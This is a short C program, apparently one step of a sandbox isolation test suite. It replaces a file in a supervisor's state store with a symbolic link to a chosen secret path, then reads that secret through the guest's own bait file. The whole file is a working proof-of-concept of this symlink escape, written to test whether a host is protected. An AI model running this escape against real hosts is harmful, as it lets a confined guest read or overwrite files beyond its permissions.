/* build: own_state
 *
 * own_state STATE SECRET: looks below STATE for the files of the guest's own box, puts a symbolic link to SECRET where
 * the supervisor keeps one of them, and reads it by the guest's own name. A guest that can rename in the supervisor's
 * store reads and writes any file that the supervisor may: on an unprotected host that takes one symlink(2).
 */
#include "step.h"
#include <dirent.h>

int main(int argc, char **argv) {
    if (argc < 3)
        return 96;
    char files[512] = "", stored[600], text[100] = "";
    DIR *state = opendir(argv[1]);
    int entries = 0;
    for (struct dirent *entry; state && (entry = readdir(state));) {
        if (entry->d_name[0] == '.' && (!entry->d_name[1] || entry->d_name[1] == '.'))
            continue;
        entries++;
        snprintf(files, sizeof files, "%s/%s/files", argv[1], entry->d_name);
    }
    say("state: %s, entries %d", state ? "a directory" : errname(errno), entries);
    if (!entries)
        return 0;
    int bait = MUST(open("/tmp/bait", O_RDWR | O_CREAT, 0600));
    struct stat st;
    MUST(fstat(bait, &st));
    close(bait);
    snprintf(stored, sizeof stored, "%s/%lu", files, (unsigned long)st.st_ino);
    OK(unlink(stored));
    OK(symlink(argv[2], stored));
    bait = open("/tmp/bait", O_RDWR);
    if (read(bait, text, sizeof text - 1) > 0)
        say("read: %s", text);
    return 1;
}
